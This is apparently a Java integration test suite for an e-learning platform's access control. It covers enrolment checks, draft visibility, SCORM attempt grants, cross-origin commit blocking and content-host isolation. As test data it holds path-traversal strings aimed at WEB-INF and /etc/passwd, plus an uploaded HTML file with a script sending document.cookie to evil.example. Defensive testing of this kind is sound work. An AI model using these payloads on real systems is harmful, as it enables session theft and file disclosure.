package org.rtc.journey;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Who gets what, and who does not. */
class AccessIT {
    private static Teaching teaching;
    private static String course;
    private static String draft;
    private static String item;

    @TempDir
    private static Path folder;

    @BeforeAll
    static void twoCourses() {
        teaching = Teaching.here();
        course = teaching.course("Puertas abiertas");
        draft = teaching.draft("Puertas cerradas");
        item = teaching.add(course, "scorm", "Golf", Product.resource("packages/RuntimeBasicCalls_SCORM12.zip"));
        teaching.enrol(course, "learner");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/courses", "/login", "/register", "/forgotten", "/health/live", "/health/ready", "/openapi"})
    void aVisitorReadsWhatIsOpenWithoutACookie(String path) {
        Answer answer = new Visitor().get(path);

        assertThat(answer.status()).as(path).isEqualTo(200);
        assertThat(answer.headers("Set-Cookie")).isEmpty();
    }

    @Test
    void aVisitorReadsAPublishedCourseAndSignsInForMore() {
        assertThat(new Visitor().get("/courses/" + course).status()).isEqualTo(200);
        assertThat(new Visitor().get("/courses/" + course + "/any-readable-name").status()).isEqualTo(200);
        for (String inside : List.of("/courses/" + course + "/items/" + item, "/courses/" + course + "/items/" + item + "/play", "/my/courses", "/profile")) {
            Answer answer = new Visitor().get(inside);
            assertThat(answer.status()).as(inside).isIn(302, 303);
            assertThat(answer.header("Location")).as(inside).contains("/login?next=");
        }
    }

    @Test
    void aDraftIsThereForThoseAloneWhoEditIt() {
        assertThat(new Visitor().get("/courses/" + draft).status()).isEqualTo(404);
        assertThat(new Visitor().signIn("learner").get("/courses/" + draft).status()).isEqualTo(404);
        assertThat(new Visitor().signIn("instructor").get("/courses/" + draft).status()).isEqualTo(200);
        assertThat(Api.nobody().get("/courses/" + draft).status()).isEqualTo(404);
        assertThat(Api.nobody().get("/courses?limit=100").body()).doesNotContain("Puertas cerradas");
    }

    @Test
    void whoIsNotEnrolledDoesNotGetIn() {
        Visitor other = new Visitor().signIn("learner2");

        assertThat(other.get("/courses/" + course + "/items/" + item).status()).isEqualTo(403);
        assertThat(other.get("/courses/" + course + "/items/" + item + "/play").status()).isEqualTo(403);
        assertThat(other.get("/courses/" + course + "/items/" + item + "/attempts").status()).isIn(403, 404);
        assertThat(other.get("/courses/" + course + "/items/" + item + "/attempts.csv").status()).isIn(403, 404);
        assertThat(Api.as("learner2").get("/courses/" + course + "/progress").status()).isIn(403, 404);
        assertThat(Api.as("learner2").get("/courses/" + course + "/progress?username=learner").status()).isIn(403, 404);
        assertThat(Api.as("learner2").get("/courses/" + course + "/enrolments").status()).isIn(403, 404);
    }

    @Test
    void aLearnerSeesNoReportOfOthersAndEditsNothing() {
        Visitor ana = new Visitor().signIn("learner");

        assertThat(ana.get("/courses/" + course + "/items/" + item).status()).isEqualTo(200);
        assertThat(ana.get("/courses/" + course + "/items/" + item + "/attempts").status()).isIn(403, 404);
        assertThat(ana.get("/courses/" + course + "/edit").status()).isEqualTo(403);
        assertThat(ana.get("/courses/" + course + "/edit/people").status()).isEqualTo(403);
        assertThat(ana.get("/courses/new").status()).isEqualTo(403);
        assertThat(ana.submit("/profile", "/courses/" + course + "/edit", Map.of("title.es", "Mío")).status()).isEqualTo(403);
        assertThat(Api.as("learner").post("/courses", "{\"title\":{\"es\":\"Mío\"}}").status()).isEqualTo(403);
        assertThat(Api.as("learner").post("/courses/" + course + "/enrolments", "{\"username\":\"learner2\"}").status()).isEqualTo(403);
    }

    @Test
    void aGrantOpensOneAttemptAndCannotBeBent() {
        String player = new Visitor().signIn("learner").get("/courses/" + course + "/items/" + item + "/play").header("Location");
        String grant = player.substring(player.lastIndexOf('/') + 1);
        String bent = (grant.charAt(0) == 'A' ? 'B' : 'A') + grant.substring(1);
        String commit = "{\"grant\":\"%s\",\"revision\":1,\"changes\":{},\"summary\":{\"completion\":\"completed\",\"success\":\"passed\",\"seconds\":1},\"ended\":true}";

        assertThat(player).startsWith(Product.contentUrl() + "/scorm/play/");
        assertThat(new Visitor().ofContent().get("/scorm/play/" + grant).status()).isEqualTo(200);
        assertThat(new Visitor().ofContent().get("/scorm/play/" + bent).status()).isIn(401, 403, 404);
        assertThat(new Visitor().ofContent().json("/scorm/commit", commit.formatted(bent)).status()).isEqualTo(401);
        assertThat(new Visitor().ofContent().with("Origin", "http://evil.example").json("/scorm/commit", commit.formatted(grant)).status()).isEqualTo(403);
        assertThat(new Visitor().ofContent().with("Sec-Fetch-Site", "cross-site").json("/scorm/commit", commit.formatted(grant)).status()).isEqualTo(403);
        assertThat(new Visitor().json("/scorm/commit", commit.formatted(grant)).status()).isIn(403, 404);
        assertThat(teaching.progress(course, "learner").getString("status")).isIn("not-started", "in-progress");
    }

    @Test
    void theContentHostHasNoPagesAndNoCookies() {
        Visitor signedIn = new Visitor().signIn("learner").ofContent();
        for (String page : List.of("/", "/login", "/courses/" + course, "/profile", "/nothing")) {
            Answer answer = signedIn.get(page);
            assertThat(answer.status()).as(page).isEqualTo(302);
            assertThat(answer.header("Location")).as(page).startsWith(Product.url() + "/");
            assertThat(answer.headers("Set-Cookie")).as(page).isEmpty();
        }
        assertThat(signedIn.post("/login", Map.of("username", "learner", "password", "demo")).status()).isEqualTo(404);
    }

    @Test
    void theApplicationHostServesNoFileOfAPackage() {
        String key = key();

        assertThat(new Visitor().ofContent().get("/p/" + key + "/shared/launchpage.html").status()).isEqualTo(200);
        assertThat(new Visitor().ofContent().get("/p/" + key + "/shared/launchpage.html").headers("Set-Cookie")).isEmpty();
        assertThat(new Visitor().signIn("instructor").get("/p/" + key + "/shared/launchpage.html").status()).isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/assets/..%2f..%2fWEB-INF/web.xml", "/assets/%2e%2e/%2e%2e/WEB-INF/web.xml", "/assets/....//WEB-INF/web.xml",
        "/WEB-INF/web.xml", "/META-INF/persistence.xml", "/assets/%00", "/learning/course.xhtml", "/platform/login.xhtml",
        "/WEB-INF/rtc/shell.xhtml", "/courses/..;/WEB-INF/web.xml", "/r/jakarta.faces.resource/../WEB-INF/web.xml"})
    void whatLiesBehindThePagesIsNotServed(String path) {
        Answer answer = new Visitor().get(path);

        assertThat(answer.status()).as(path).isBetween(400, 404);
        assertThat(answer.body()).doesNotContain("<web-app", "<persistence", "ui:composition");
    }

    @Test
    void aPackageHasOnlyItsOwnFiles() {
        String key = key();
        for (String path : List.of("/..%2f..%2fsecret", "/%2e%2e/%2e%2e/secret", "/..;/secret", "//etc/passwd", "/shared/..%5c..%5csecret", "/%00")) {
            assertThat(new Visitor().ofContent().get("/p/" + key + path).status()).as(path).isIn(302, 400, 404);
        }
        assertThat(new Visitor().ofContent().get("/p/00000000000000000000000000000000/shared/launchpage.html").status()).isEqualTo(404);
    }

    @Test
    void anUploadedPageIsNotRenderedWhereTheCookiesAre() throws Exception {
        Path page = Files.writeString(folder.resolve("trampa.html"), "<script>document.location='http://evil.example/'+document.cookie</script>");
        String file = teaching.add(course, "file", "Trampa", page);
        Visitor andres = new Visitor().signIn("instructor");

        String shown = andres.get("/courses/" + course + "/items/" + file).body();
        String address = shown.replaceAll("(?s).*href=\"(/courses/[0-9]+/items/[0-9]+/download/[^\"]+)\".*", "$1");
        Answer download = andres.get(address);

        assertThat(download.status()).isEqualTo(200);
        assertThat(download.header("Content-Disposition")).startsWith("attachment");
        assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(download.header("Content-Security-Policy")).contains("default-src 'none'", "sandbox");
        assertThat(new Visitor().signIn("learner2").get(address).status()).isIn(403, 404);
    }

    @Test
    void restTakesTokensAndNoCookies() {
        Visitor andres = new Visitor().signIn("instructor");

        assertThat(andres.json("/api/v1/courses", "{\"title\":{\"es\":\"Con galleta\"}}").status()).isEqualTo(401);
        assertThat(andres.get("/api/v1/courses/" + course + "/progress").status()).isEqualTo(401);
        assertThat(andres.with("Authorization", "Bearer none").get("/api/v1/courses").status()).isEqualTo(401);
    }

    private static String key() {
        String player = new Visitor().signIn("learner").get("/courses/" + course + "/items/" + item + "/play").header("Location");
        String boot = new Visitor().ofContent().get(player.substring(Product.contentUrl().length())).body();
        return boot.replaceAll("(?s).*/p/([0-9a-f]{32})/.*", "$1");
    }
}
